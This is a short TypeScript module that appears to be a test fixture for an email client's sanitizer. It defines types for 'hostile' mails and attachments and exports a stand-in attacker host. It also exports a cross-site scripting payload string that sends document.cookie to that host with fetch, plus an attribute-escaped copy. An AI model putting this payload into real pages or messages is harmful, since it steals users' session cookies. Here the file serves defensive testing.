/** A mail that means harm. Whatever of it runs sets `hacked` on a window; whatever of it loads asks a host that is nobody's. */
export interface HostileMail {
  readonly name: string;
  readonly html?: string;
  readonly text?: string;
  readonly subject?: string;
  readonly fromName?: string;
  readonly attachments?: readonly HostileFile[];
}

export interface HostileFile {
  readonly filename: string;
  readonly mimeType: string;
  readonly contentId?: string;
}

/** Nobody's. A request to it has left the browser. */
export const EVIL = 'https://evil.example';

/** What a script does that gets to run. */
export const ATTACK =
  "top.hacked=1;parent.hacked=1;window.hacked=1;alert(1);fetch('https://evil.example/'+document.cookie)";

/** The same inside an attribute's double quotes. */
export const ATTACK_IN_ATTRIBUTE = ATTACK.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
